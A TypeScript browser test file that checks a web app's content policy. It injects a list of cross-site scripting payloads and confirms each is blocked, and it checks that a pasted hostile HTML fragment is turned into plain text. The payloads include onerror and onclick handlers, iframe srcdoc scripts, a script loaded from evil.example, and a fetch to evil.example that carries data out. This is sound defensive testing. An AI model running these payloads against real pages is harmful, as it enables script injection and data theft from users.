import { expect, test } from "vitest";
import { WirePerson } from "../wire/person.ts";
import { withServiceWorker } from "./browser.ts";
import { browser, parley, setStage } from "./stage.ts";
import { Visitor } from "./visitor.ts";

withServiceWorker();
setStage();

/** What someone's text would do if it ever got into the page as more than text. Each sets `window.probe` if it runs. */
const ATTACKS: Readonly<Record<string, string>> = {
  "an inline script": `const script = document.createElement("script");
    script.append("window.probe = 1");
    document.body.append(script);`,
  "a script of elsewhere": `const script = document.createElement("script");
    script.setAttribute("src", "https://evil.example/probe.js");
    document.body.append(script);`,
  "markup out of a text": `document.body.innerHTML = "<img src=x onerror='window.probe = 1'>";`,
  "even harmless markup out of a text": `document.body.innerHTML = "<b>bold</b>";
    window.probe = 1;`,
  "a handler out of a text": `document.body.setAttribute("onclick", "window.probe = 1");
    document.body.click();`,
  "a text as code": `setTimeout("window.probe = 1");`,
  "a frame with a text of its own": `const frame = document.createElement("iframe");
    frame.setAttribute("srcdoc", "<script>parent.probe = 1</script>");
    document.body.append(frame);`,
  "a frame of elsewhere": `const frame = document.createElement("iframe");
    frame.src = "https://evil.example/";
    document.body.append(frame);`,
  "a policy that lets texts through": `trustedTypes.createPolicy("mine", { createScript: (text) => text });`,
  "words to elsewhere": `void fetch("https://evil.example/?words");`,
};

test("nothing that gets into the page by a mistake of ours can run, or carry anything away", async () => {
  const eve = await Visitor.arrive(browser, parley.url, "Eve");
  await eve.page.goto("/");
  await eve.sees("Create your community");
  expect(eve.complaints).toEqual([]);
  for (const [name, attack] of Object.entries(ATTACKS)) {
    await eve.page.reload();
    await eve.sees("Create your community");
    eve.complaints.length = 0;
    await eve.page.evaluate(
      `try { ${attack} } catch (error) { console.error("policy: " + error); }`,
    );
    await expect.poll(() => eve.complaints.join("\n"), { message: name }).toContain("policy:");
    expect([name, await eve.page.evaluate("window.probe ?? null")]).toEqual([name, null]);
  }
});

test("what is pasted out of another page becomes words, under the same policy", async () => {
  const ann = await WirePerson.founder(parley.url);
  const room = await ann.createRoom("Kitchen");
  const visitor = await Visitor.arrive(browser, parley.url, "Ann");
  await visitor.signIn(`/rooms/${room}`);
  const field = visitor.composer("Kitchen");
  await field.click();
  // What helps to write has come, and hears what is pasted.
  await visitor.page.locator("[data-aids]").waitFor({ state: "attached" });
  await field.evaluate((element) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData("text/plain", "see this");
    const html = `see <b>this</b><img src="x" onerror="window.probe = 1"><script src="x onclick=1">window.probe = 2</script><iframe srcdoc="<b onclick=1>"></iframe>`;
    clipboardData.setData("text/html", html);
    element.dispatchEvent(
      new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }),
    );
  });
  await expect.poll(() => field.inputValue()).toBe("see **this**");
  expect(await visitor.page.evaluate("window.probe ?? null")).toBeNull();
  expect(visitor.complaints).toEqual([]);
});
